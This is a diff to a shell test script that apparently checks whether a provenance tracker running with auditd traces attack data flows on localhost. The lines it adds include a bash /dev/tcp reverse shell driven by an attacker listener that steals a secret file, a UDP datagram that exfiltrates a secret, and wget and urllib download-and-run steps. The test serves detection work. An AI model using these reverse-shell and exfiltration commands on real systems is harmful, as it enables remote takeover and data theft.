@@ -4,7 +4,7 @@
 # a real auditd with the shipped rules (the machinery is
 # tests/probes/scenario-lib.sh, as for workloads-real.sh):
 #   dlrun     python3 -m http.server serves payload.sh (and later a decoy);
-#             curl -o fetches it, chmod +x, run: it reads secret and sends
+#             curl -o fetches it (wget -O, python urllib too), chmod +x, run: it reads secret and sends
 #             it to a listener (bash /dev/tcp), which writes loot
 #   ldso      a program run through the dynamic loader (ld.so ./prog): the
 #             program file is mapped, not exec'd; it copies secret to out
@@ -18,6 +18,9 @@
 #   tarcmd    tar -x --to-command
 #   reasm     split a secret in parts, cat them back together, base64 of
 #             it dropped and decoded
+#   revshell  bash <&3 >&3 on /dev/tcp: a reverse shell runs the commands an attacker
+#             (a listener reading cmds) sends, its output goes back
+#   udpx      a secret sent in a UDP datagram to a local receiver
 #   spool     cp of a crontab-like file into a spool directory
 set -eu
 top=${BTRACK_TOP:?}
@@ -27,7 +30,7 @@ T=$(mktemp -d /tmp/bt-wattack.XXXXXX)
 [ -n "${KEEP:-}" ] && echo "keeping $T"
 trap '[ -n "${KEEP:-}" ] || rm -rf "$T"' EXIT
 command -v python3 >/dev/null 2>&1 || { echo "no python3"; exit 77; }
-for t in cc curl bash perl sed sort tar split base64 ld.so; do
+for t in cc curl wget bash perl sed sort tar split base64 ld.so; do
 	[ $t = ld.so ] && continue
 	command -v $t >/dev/null 2>&1 || { echo "no $t"; exit 77; }
 done
@@ -37,9 +40,11 @@ LDSO=$(ls /lib64/ld-linux-*.so.* /lib/ld-linux-*.so.* 2>/dev/null | head -n 1)
 # ports of the web server and of the exfil listener (SO_REUSEADDR both)
 P1=$((20000 + $$ % 20000))
 P2=$((P1 + 1))
+P3=$((P1 + 2))
+P4=$((P1 + 3))
 
 SCENARIOS="
-dlrun	python3 -m http.server --bind 127.0.0.1 --directory srv $P1 > /dev/null 2>&1 & s=\$!; python3 ../listen.py $P2 & l=\$!; while [ ! -e ready ]; do sleep 0.05; done; until curl -s -o drop http://127.0.0.1:$P1/payload.sh; do sleep 0.1; done; chmod +x drop; ./drop $P2; wait \$l; curl -s -o page http://127.0.0.1:$P1/decoy2; kill \$s; wait \$s || true; cat decoy > /dev/null
+dlrun	python3 -m http.server --bind 127.0.0.1 --directory srv $P1 > /dev/null 2>&1 & s=\$!; python3 ../listen.py $P2 & l=\$!; while [ ! -e ready ]; do sleep 0.05; done; until curl -s -o drop http://127.0.0.1:$P1/payload.sh; do sleep 0.1; done; chmod +x drop; ./drop $P2; wait \$l; wget -q -O drop2 http://127.0.0.1:$P1/payload.sh; python3 -c 'import sys, urllib.request; urllib.request.urlretrieve(sys.argv[1], \"drop3\")' http://127.0.0.1:$P1/payload.sh; curl -s -o page http://127.0.0.1:$P1/decoy2; kill \$s; wait \$s || true; cat decoy > /dev/null
 ldso	$LDSO ./prog secret out; cat decoy > /dev/null
 preload	cc -shared -fPIC -o evil.so evil.c; cat decoy > /dev/null; LD_PRELOAD=./evil.so cat in > out
 gccdrop	cp incoming/dropped.c d.c; cc -o d d.c; ./d; cat decoy > /dev/null
@@ -47,6 +52,8 @@ inplace-ed	exec 3>> c3; sed -i -f edit.sed c1; perl -pi -e 'BEGIN { open F, \"se
 sortself	cat secret > f; cat decoy > /dev/null; sort -o f f
 tarcmd	tar -xf in.tar --to-command='cat > \"\$(basename \$TAR_FILENAME).out\"'; cat decoy > /dev/null
 reasm	split -b 8 secret part.; cat part.* > whole; base64 whole > blob; cat decoy > /dev/null; base64 -d blob > dec
+revshell	python3 ../attacker.py $P3 & a=\$!; while [ ! -e ready ]; do sleep 0.05; done; bash -c 'exec 3<>/dev/tcp/127.0.0.1/$P3; exec bash <&3 >&3 3>&-'; wait \$a; cat decoy > /dev/null
+udpx	python3 ../udprecv.py $P4 & u=\$!; while [ ! -e ready ]; do sleep 0.05; done; python3 -c 'import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(open(\"secret\", \"rb\").read(), (\"127.0.0.1\", int(sys.argv[1])))' $P4; wait \$u; cat decoy > /dev/null
 spool	mkdir -p spool/crontabs; cp job spool/crontabs/root; cat decoy > /dev/null
 "
 
@@ -86,19 +93,31 @@ tarcmd	fwd	file:@/in.tar	none	reaches	file:@/s.out
 reasm	back	file:@/dec	none	reaches	file:@/secret	file:@/whole	file:@/blob
 reasm	back	file:@/dec	none	lacks	file:@/decoy
 reasm	fwd	file:@/secret	none	reaches	file:@/dec
+dlrun	back	file:@/drop2	none	reaches	file:@/srv/payload.sh	process:/wget
+dlrun	back	file:@/drop3	none	reaches	file:@/srv/payload.sh
+dlrun	back	file:@/drop3	none	lacks	file:@/secret	file:@/srv/decoy2
+revshell	back	file:@/marker	none	reaches	file:@/cmds	process:/bash
+revshell	back	file:@/marker	none	lacks	file:@/decoy	file:@/secret
+revshell	back	file:@/stolen	none	reaches	file:@/secret	file:@/cmds
+revshell	fwd	file:@/cmds	none	reaches	file:@/marker	file:@/stolen
+revshell	back	file:@/reply	none	reaches	file:@/secret
+udpx	back	file:@/uloot	none	reaches	file:@/secret
+udpx	back	file:@/uloot	none	lacks	file:@/decoy
+udpx	fwd	file:@/secret	none	reaches	file:@/uloot
 spool	back	file:@/spool/crontabs/root	none	reaches	file:@/job
 spool	back	file:@/spool/crontabs/root	none	lacks	file:@/decoy
 '
 CHECKS=$(echo "$CHECKS" | sed "s/PORT2/$P2/g")
 
 DESIGN='
+auditd:inplace-ed:fwd#26  audit logs no write(2): every process holding a descriptor open for writing may have written through it until it lets go; perl inherited the shell's `exec 3>> c3` (the old c3, renamed c3.bak by python) and is taken as a writer of it, which python then reads
 '
 
 KNOWN='
 '
 
 prepare() {
-	for w in dlrun ldso preload gccdrop inplace-ed sortself tarcmd reasm spool; do
+	for w in revshell udpx dlrun ldso preload gccdrop inplace-ed sortself tarcmd reasm spool; do
 		echo "the $w secret $$" >"$1/$w/secret"
 		echo "decoy $$" >"$1/$w/decoy"
 	done
@@ -114,7 +133,7 @@ s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 s.bind(("127.0.0.1", int(sys.argv[1])))
 s.listen(1)
 open("ready", "w").close()
-s.settimeout(30)
+s.settimeout(10)
 c, _ = s.accept()
 d = b""
 while True:
@@ -123,6 +142,40 @@ while True:
         break
     d += b
 with open("loot", "wb") as f:
+    f.write(d)
+PY
+	# the attacker of a reverse shell: sends its commands, keeps what the
+	# shell sends back
+	printf 'echo owned > marker\ncat secret > stolen\ncat stolen\n' >"$1/revshell/cmds"
+	cat >"$1/attacker.py" <<'PY'
+import socket, sys
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1])))
+s.listen(1)
+open("ready", "w").close()
+s.settimeout(10)
+c, _ = s.accept()
+c.sendall(open("cmds", "rb").read())
+c.shutdown(socket.SHUT_WR)
+d = b""
+while True:
+    b = c.recv(4096)
+    if not b:
+        break
+    d += b
+with open("reply", "wb") as f:
+    f.write(d)
+PY
+	cat >"$1/udprecv.py" <<'PY'
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1])))
+open("ready", "w").close()
+s.settimeout(10)
+d, _ = s.recvfrom(4096)
+with open("uloot", "wb") as f:
     f.write(d)
 PY
 	cat >"$1/prog.c" <<'C'
